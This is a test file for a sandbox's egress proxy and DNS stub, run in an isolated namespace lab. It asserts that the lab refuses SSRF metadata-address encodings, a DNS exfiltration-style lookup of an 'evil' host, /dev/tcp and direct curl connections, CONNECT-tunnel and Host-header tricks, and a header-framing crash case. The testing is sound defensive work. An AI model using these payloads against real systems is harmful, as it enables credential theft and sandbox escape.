"""The egress bridge, proxy and DNS stub, end to end in a private network lab (see ``_netlab``).

A client in a namespace with only ``lo`` reaches the world only through bridge sockets it opened with
``sandbox._bridge.open_bridge`` and passed by SCM_RIGHTS to the proxy under test, which runs in a supervisor
namespace joined by a veth pair to an "internet" namespace (203.0.113.0/24, 2001:db8::/32, a fake metadata
service on 169.254.169.254). Nothing here sends a packet from the machine's own namespace.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.sandbox._netlab import (
    INET_HTTP,
    METADATA,
    METADATA_ELSEWHERE,
    PY,
    SEARCH,
    SEARCH_ANSWER,
    Bridge,
    Lab,
    in_ns,
    sh,
)

if TYPE_CHECKING:
    from collections.abc import Iterator

pytestmark = [pytest.mark.root, pytest.mark.slow]


def _probe() -> str | None:
    if os.geteuid() != 0:
        return "needs root to create network namespaces"
    if shutil.which("ip") is None or shutil.which("curl") is None:
        return "needs iproute2 and curl"
    return None


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    reason = _probe()
    if reason:
        pytest.skip(reason)
    lab = Lab(tmp_path_factory.mktemp("netlab"))
    try:
        yield lab
    finally:
        lab.close()


@pytest.fixture
def make_bridge(lab: Lab) -> Iterator[callable]:
    bridges: list[Bridge] = []

    def make(rules: list[str], **kw: object) -> Bridge:
        bridge = lab.bridge(rules, **kw)  # type: ignore[arg-type]
        bridges.append(bridge)
        return bridge

    yield make
    for bridge in bridges:
        bridge.close()


RAW_CLIENT = """
import socket, sys
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
for part in sys.argv[1:]:
    s.sendall(part.encode().decode("unicode_escape").encode("latin-1"))
    data = b""
    while b"\\r\\n\\r\\n" not in data:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
    head, _, body = data.partition(b"\\r\\n\\r\\n")
    length = 0
    for line in head.split(b"\\r\\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            length = int(value)
    while len(body) < length:  # the body may come in a later segment than the head
        chunk = s.recv(65536)
        if not chunk:
            break
        body += chunk
        data += chunk
    print(repr(data))
"""


def test_lab_metadata_service_is_really_there_for_the_supervisor(lab: Lab) -> None:
    """The refusals below mean something: from the supervisor side, the fake metadata services answer."""
    for addr in (METADATA, *METADATA_ELSEWHERE):
        url = f"http://[{addr}]/" if ":" in addr else f"http://{addr}/"
        proc = sh(*in_ns(lab.sup, "curl", "-sS", "--max-time", "5", url), check=False)
        assert "SECRET-METADATA" in proc.stdout, (addr, proc.stderr)


def test_lab_resolver_really_has_a_search_list_that_answers_elsewhere(lab: Lab) -> None:
    """The absolute-name test below means something: a plain lookup in the supervisor namespace takes the
    search-domain answer (ndots:5), and the lab logs what it was asked."""
    code = "import socket; print(socket.getaddrinfo('abs.example.test', 80, socket.AF_INET)[0][4][0])"
    proc = sh(*in_ns(lab.sup, PY, "-c", code))
    assert proc.stdout.strip() == SEARCH_ANSWER
    assert f"abs.example.test.{SEARCH} A" in lab.queries()


def test_names_are_resolved_as_absolute_names_and_refused_names_never_reach_the_resolver(lab: Lab, make_bridge) -> None:
    """A Kubernetes-like resolv.conf (search domain, ndots:5) never decides what an allowed name means: only
    the answer for the absolute name is used, and no name is sent with the search domain appended."""
    bridge = make_bridge(["abs.example.test"])
    before = len(lab.queries())
    status, body = bridge.curl("http://abs.example.test/x")
    assert (status, body) == (200, "origin host=abs.example.test path=/x")
    assert bridge.decision()["address"] == INET_HTTP
    status, body = bridge.curl("http://leak.example.test/")  # no rule allows it
    assert status == 403
    code = (
        "import dns.message, dns.query; r = dns.query.udp(dns.message.make_query('abs.example.test', 'A'), "
        "'127.0.0.1', port=53, timeout=5); print(sorted(x.to_text() for s in r.answer for x in s))"
    )
    assert bridge.python(code).stdout.strip() == f"['{INET_HTTP}']"  # the DNS stub: the same answer
    asked = lab.queries()[before:]
    assert "abs.example.test A" in asked
    assert not [q for q in asked if SEARCH in q], asked
    assert not [q for q in asked if "leak" in q], asked


@pytest.mark.parametrize(
    "host",
    [
        "azure.example.test",
        "alibaba.example.test",
        "aws6.example.test",
        "gcp6.example.test",
        "azure-mapped.example.test",
    ],
)
def test_metadata_behind_allowed_names_is_refused_even_with_private_ranges_open(make_bridge, host: str) -> None:
    bridge = make_bridge([host], private=("10.0.0.0/8", "100.64.0.0/10", "fc00::/7", "172.16.0.0/12"))
    status, body = bridge.curl(f"http://{host}/")
    assert status == 403
    assert "cloud metadata address" in body
    assert "SECRET" not in body
    record = bridge.decision()
    assert (record["verdict"], record["address"]) == ("refused", None)


def test_a_cname_to_an_allowed_name_is_followed(make_bridge) -> None:
    bridge = make_bridge(["alias.example.test", "www.example.test"])
    status, body = bridge.curl("http://alias.example.test/")
    assert (status, body.split()[0]) == (200, "origin")


def test_a_cname_to_a_name_no_rule_allows_is_refused_unless_the_policy_accepts_it(make_bridge) -> None:
    strict = make_bridge(["cdn-alias.example.test"])
    status, body = strict.curl("http://cdn-alias.example.test/")
    assert status == 403
    assert "alias (CNAME) of edge.cdn.example.test" in body
    assert "cname_targets" in body
    accepting = make_bridge(["cdn-alias.example.test"], cname_targets=("*.cdn.example.test",))
    status, body = accepting.curl("http://cdn-alias.example.test/")
    assert (status, body.split()[0]) == (200, "origin")


def test_a_cname_to_a_metadata_address_is_refused_whatever_the_policy_accepts(make_bridge) -> None:
    bridge = make_bridge(["meta-alias.example.test"], cname_targets=("*",))
    status, body = bridge.curl("http://meta-alias.example.test/")
    assert status == 403
    assert "cloud metadata address" in body and "SECRET" not in body


def test_allowed_host_over_http_and_decision_is_reported(make_bridge) -> None:
    bridge = make_bridge(["www.example.test"], toolbox="fetcher")
    status, body = bridge.curl("http://www.example.test/hello?x=1")
    assert status == 200
    assert body == "origin host=www.example.test path=/hello?x=1"
    record = bridge.decision()
    assert record["toolbox"] == "fetcher"
    assert record["verdict"] == "allowed"
    assert record["host"] == "www.example.test"
    assert record["port"] == 80
    assert record["address"] == INET_HTTP
    assert record["bytes_down"] > len(body)
    assert record["bytes_up"] > 0


def test_request_body_and_large_response_stream_through(make_bridge) -> None:
    bridge = make_bridge(["www.example.test"])
    proc = bridge.run(
        "sh", "-c", "head -c 3000000 /dev/zero | curl -sS --max-time 20 --data-binary @- http://www.example.test/upload"
    )
    assert proc.stdout == "origin received 3000000 bytes"
    assert bridge.decision()["bytes_up"] > 3_000_000
    status, _ = bridge.curl("http://www.example.test/big/20000000", "-o", "/dev/null")
    assert status == 200
    assert bridge.decision()["bytes_down"] > 20_000_000


def test_https_through_connect_with_real_tls(lab: Lab, make_bridge) -> None:
    bridge = make_bridge(["secure.example.test:443"])
    status, body = bridge.curl("https://secure.example.test/tls", "--cacert", str(lab.ca_path))
    assert status == 200
    assert body == "tls-origin host=secure.example.test path=/tls"
    record = bridge.decision()
    assert (record["method"], record["verdict"], record["port"]) == ("CONNECT", "allowed", 443)
    assert record["bytes_down"] > 500  # the TLS handshake went through the tunnel


def test_ipv6_only_host_is_dialled_over_ipv6(make_bridge) -> None:
    bridge = make_bridge(["www6.example.test"])
    status, body = bridge.curl("http://www6.example.test/")
    assert (status, body.split()[0]) == (200, "origin6")
    assert bridge.decision()["address"] == "2001:db8::10"


def test_disallowed_host_gets_403_with_reason(make_bridge) -> None:
    bridge = make_bridge(["www.example.test:80"])
    status, body = bridge.curl("http://evil.example.test/")
    assert status == 403
    assert "evil.example.test is not in AllowedHosts" in body
    record = bridge.decision()
    assert (record["verdict"], record["host"]) == ("refused", "evil.example.test")
    status, body = bridge.curl("https://evil.example.test/", "-k")
    assert status == 0 or status == 403  # curl reports the refused CONNECT as an error
    assert bridge.decision()["method"] == "CONNECT"
    status, body = bridge.curl("http://www.example.test:8080/")
    assert status == 403
    assert "other ports" in body


def test_empty_allowed_hosts_means_no_network(make_bridge) -> None:
    bridge = make_bridge([])
    status, body = bridge.curl("http://www.example.test/")
    assert status == 403
    assert "no network access" in body


@pytest.mark.parametrize(
    ("host", "word"),
    [
        ("loop.example.test", "loopback"),
        ("meta.example.test", "metadata"),
        ("mapped.example.test", "metadata"),
        ("nat64.example.test", "metadata"),
        ("self.example.test", "own host"),
        ("private.example.test", "private"),
    ],
)
def test_allowed_names_resolving_to_forbidden_addresses_are_refused(make_bridge, host: str, word: str) -> None:
    bridge = make_bridge([host])
    status, body = bridge.curl(f"http://{host}/")
    assert status == 403
    assert word in body
    assert "SECRET" not in body


def test_private_range_opened_by_policy_is_dialled(make_bridge) -> None:
    bridge = make_bridge(["private.example.test"], private=("10.0.0.0/8",))
    status, body = bridge.curl("http://private.example.test/")
    assert status == 502  # allowed, dialled, and nothing lives at 10.1.2.3 in the lab
    assert "cannot connect" in body


@pytest.mark.parametrize(
    "url",
    [
        f"http://{METADATA}/",
        "http://0xa9.0xfe.0xa9.0xfe/",
        "http://2852039166/",
        "http://[::ffff:169.254.169.254]/",
        "http://127.0.0.1:8080/",
    ],
)
def test_ip_literals_that_are_not_listed_are_refused(make_bridge, url: str) -> None:
    bridge = make_bridge(["www.example.test", "localhost"])
    status, body = bridge.curl(url)
    assert status == 403
    assert "SECRET" not in body


def test_localhost_entry_reaches_the_supervisors_loopback_only_where_the_policy_opens_it(make_bridge) -> None:
    closed = make_bridge(["localhost", "127.0.0.1", "::1"], toolbox="lua")
    for url in ("http://localhost:8080/lo", "http://127.0.0.1:8080/lo", "http://[::1]:8080/lo"):
        status, body = closed.curl(url)
        assert status == 403 and "toolboxes.lab/lua.allow_loopback: true" in body, (url, body)
    bridge = make_bridge(["localhost"], loopback=True)
    status, body = bridge.curl("http://localhost:8080/lo")
    assert (status, body) == (200, "loopback-service host=localhost:8080 path=/lo")
    assert bridge.decision()["address"] == "127.0.0.1"
    # Opened or not, the supervisor's own listening sockets are never reached.
    own = make_bridge(["localhost"], loopback=True, own_ports=(8080,))
    status, body = own.curl("http://localhost:8080/lo")
    assert status == 403 and "a socket of the supervisor itself" in body, body


def test_an_ip_literal_of_a_private_range_opens_nothing_without_the_policy(make_bridge) -> None:
    bridge = make_bridge(["10.1.2.3", "[::ffff:10.1.2.3]"], toolbox="db")
    for url in ("http://10.1.2.3/", "http://[::ffff:10.1.2.3]/"):
        status, body = bridge.curl(url)
        assert status == 403 and "toolboxes.lab/db.allow_private_ranges: [10.1.2.3/32]" in body, (url, body)
    opened = make_bridge(["10.1.2.3"], private=("10.1.2.3/32",))
    assert opened.curl("http://10.1.2.3/")[0] == 502  # allowed and dialled: nothing lives at 10.1.2.3 in the lab


def test_uppercase_and_trailing_dot_spellings_match_the_same_rules(make_bridge) -> None:
    bridge = make_bridge(["www.example.test"])
    proc = bridge.python(RAW_CLIENT, "GET http://WWW.Example.TEST./up HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
    assert "200 OK" in proc.stdout, proc.stderr
    assert bridge.decision()["host"] == "www.example.test"
    proc = bridge.python(RAW_CLIENT, "CONNECT WWW.EXAMPLE.TEST.:80 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
    assert "200 Connection established" in proc.stdout
    proc = bridge.python(RAW_CLIENT, "GET http://EVIL.example.test./ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
    assert "403" in proc.stdout


def test_host_header_cannot_pick_another_virtual_host(make_bridge) -> None:
    bridge = make_bridge(["www.example.test"])
    proc = bridge.python(RAW_CLIENT, "GET http://www.example.test/v HTTP/1.1\\r\\nHost: evil.example.test\\r\\n\\r\\n")
    assert "host=www.example.test path=/v" in proc.stdout


def test_a_body_framing_header_named_in_connection_is_kept_and_the_proxy_lives_on(make_bridge) -> None:
    """Connection may name hop-by-hop headers, but not the body's framing: dropping Content-Length upstream once
    made h11 raise inside the proxy, and that ended the whole supervisor (found by a red-team pass)."""
    bridge = make_bridge(["www.example.test"])
    proc = bridge.python(
        RAW_CLIENT,
        "POST http://www.example.test/upload HTTP/1.1\\r\\nHost: x\\r\\n"
        "Connection: content-length\\r\\nContent-Length: 5\\r\\n\\r\\nhello",
    )
    assert "origin received 5 bytes" in proc.stdout
    assert bridge.decision()["verdict"] == "allowed"
    status, body = bridge.curl("http://www.example.test/after")  # the proxy still serves
    assert (status, body) == (200, "origin host=www.example.test path=/after")


def test_connect_inside_a_tunnel_gets_nothing_more(make_bridge) -> None:
    bridge = make_bridge(["www.example.test"])
    proc = bridge.python(
        RAW_CLIENT,
        "CONNECT www.example.test:80 HTTP/1.1\\r\\nHost: www.example.test:80\\r\\n\\r\\n",
        "CONNECT evil.example.test:80 HTTP/1.1\\r\\nHost: evil.example.test:80\\r\\n\\r\\n",
    )
    first, second = proc.stdout.splitlines()
    assert "200 Connection established" in first
    assert "200 Connection established" not in second
    assert "Server: netlab" in second  # the answer came from the origin, which does not speak CONNECT
    record = bridge.decision()
    assert record["host"] == "www.example.test"
    assert not [line for line in bridge.lines.pending() if "evil" in line]


def test_dns_stub_answers_allowed_names_and_refuses_others_without_asking(lab: Lab, make_bridge) -> None:
    bridge = make_bridge(["www.example.test", "meta.example.test"])
    query = """
import sys, dns.message, dns.query, dns.rcode
for name, kind, tcp in [a.split(",") for a in sys.argv[1:]]:
    q = dns.message.make_query(name, kind)
    r = (dns.query.tcp if tcp == "tcp" else dns.query.udp)(q, "127.0.0.1", port=53, timeout=5)
    print(name, kind, dns.rcode.to_text(r.rcode()), sorted(x.to_text() for s in r.answer for x in s),
          [s.ttl for s in r.answer])
"""
    secret = "exfil-4f2a.evil.example.test"
    proc = bridge.python(
        query,
        f"{secret},A,udp",
        "evil.example.test,A,tcp",
        "www.example.test,TXT,udp",
        "meta.example.test,A,udp",
        "WWW.EXAMPLE.TEST.,A,udp",
        "www.example.test,AAAA,tcp",
    )
    lines = proc.stdout.splitlines()
    assert lines[0] == f"{secret} A REFUSED [] []", proc.stderr
    assert lines[1] == "evil.example.test A REFUSED [] []"
    assert lines[2] == "www.example.test TXT REFUSED [] []"
    assert lines[3] == "meta.example.test A REFUSED [] []"  # allowed name, forbidden address
    assert lines[4] == f"WWW.EXAMPLE.TEST. A NOERROR ['{INET_HTTP}'] [0]"
    assert lines[5] == "www.example.test AAAA NOERROR ['2001:db8::10'] [0]"
    seen = lab.dns_log.read_text()
    assert "www.example.test AAAA" in seen  # the lab resolver logs before it answers
    assert "exfil" not in seen
    assert "evil.example.test" not in seen


def test_private_resolv_conf_points_the_worker_at_the_stub(sandbox_tmp: Path, make_bridge) -> None:
    bridge = make_bridge(["www.example.test"])
    before = Path("/etc/resolv.conf").read_text()
    code = """
import socket, sys
from sandbox._resolver import apply_private_resolv_conf, plan_resolv_conf
apply_private_resolv_conf(plan_resolv_conf(53), workdir=sys.argv[1])
print(open("/etc/resolv.conf").read().splitlines()[1])
print(sorted({i[4][0] for i in socket.getaddrinfo("www.example.test", 80, type=socket.SOCK_STREAM)}))
try:
    socket.getaddrinfo("evil.example.test", 80)
    print("evil resolved")
except socket.gaierror as exc:
    print("evil refused")
import os; print(os.listdir(sys.argv[1]))
"""
    proc = bridge.python(code, str(sandbox_tmp))
    assert proc.stdout.splitlines() == [
        "nameserver 127.0.0.1",
        f"['2001:db8::10', '{INET_HTTP}']",
        "evil refused",
        "[]",
    ], proc.stderr
    assert Path("/etc/resolv.conf").read_text() == before
    assert "resolv.conf" not in Path("/proc/self/mountinfo").read_text()


def test_direct_connections_from_the_client_reach_nothing(make_bridge) -> None:
    bridge = make_bridge(["www.example.test"])
    code = f"""
import errno, socket
results = []
for kind, proto in [(socket.SOCK_STREAM, 0), (socket.SOCK_STREAM, 262)]:
    s = socket.socket(socket.AF_INET, kind, proto)
    s.settimeout(3)
    try:
        s.connect(("{INET_HTTP}", 80)); results.append("connected")
    except OSError as exc:
        results.append(errno.errorcode.get(exc.errno, str(exc)))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"x", ("203.0.113.53", 53)); results.append("sent")
except OSError as exc:
    results.append(errno.errorcode.get(exc.errno, str(exc)))
print(results)
"""
    proc = bridge.python(code)
    assert proc.stdout.strip() == "['ENETUNREACH', 'ENETUNREACH', 'ENETUNREACH']", proc.stderr
    proc = bridge.run("bash", "-c", f"echo hi > /dev/tcp/{INET_HTTP}/80")
    assert proc.returncode != 0
    proc = bridge.run("curl", "-sS", "--noproxy", "*", "--max-time", "5", f"http://{INET_HTTP}/")
    assert proc.returncode != 0
